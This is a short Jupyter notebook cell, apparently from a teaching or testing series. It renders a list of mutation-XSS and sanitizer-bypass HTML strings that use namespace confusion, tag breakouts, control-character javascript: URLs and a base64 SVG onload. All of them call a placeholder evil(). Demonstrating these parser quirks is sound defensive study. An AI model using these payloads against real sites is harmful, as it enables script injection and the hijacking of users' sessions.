# notebook: 04-cost
# Shows HTML that is harmless until it is cleaned, or until a browser has read it twice.
from IPython.display import HTML, display

RUN = "<img src=x onerror=evil()>"
for text in (
    f"<svg></p><style><a title='</style>{RUN}'>",
    f"<math></br><style><!--</style>{RUN}--></style>",
    f"<math><annotation-xml encoding='text/html'><style>{RUN}</style></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math>{RUN}",
    f"<math><mi><table><mglyph><style><math><table title='</style>{RUN}'>",
    f"<svg><desc><![CDATA[</desc>{RUN}]]></svg>",
    f"<noscript><p title='</noscript>{RUN}'></noscript>",
    f"<title><a title='</title>{RUN}'></title><textarea><a title='</textarea>{RUN}'>",
    f"<xmp><p title='</xmp>{RUN}'></xmp><plaintext>{RUN}",
    f"<template><p title='</template>{RUN}'></template><select><style></select>{RUN}</style>",
    f"<iframe><p title='</iframe>{RUN}'></iframe><noembed><a title='</noembed>{RUN}'>",
    f"<p title='&lt;/p&gt;{RUN}'><p title=\"`{RUN}`\"><p title=``onmouseover=evil()>",
    f"<pre><code></code></pre></div></div></body></html>{RUN}",
    f"<table><caption><style><td title='</style>{RUN}'>",
    "<a title=x\x0bonclick=evil()>x</a><a\x0chref=javascript:evil()>x</a><img/src=x/onerror=evil()>",
    "<a href='java\nscript:evil()'>x</a><a href='\x01javascript:evil()'>x</a>",
    "<svg><set attributeName=href to=javascript:evil()><use href='data:image/svg+xml,<svg/>'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J2V2aWwoKScvPg=='>",
    "<script>/*<b>*/evil()</script><scr<script>ipt>evil()</script>",
):
    display(HTML(text))
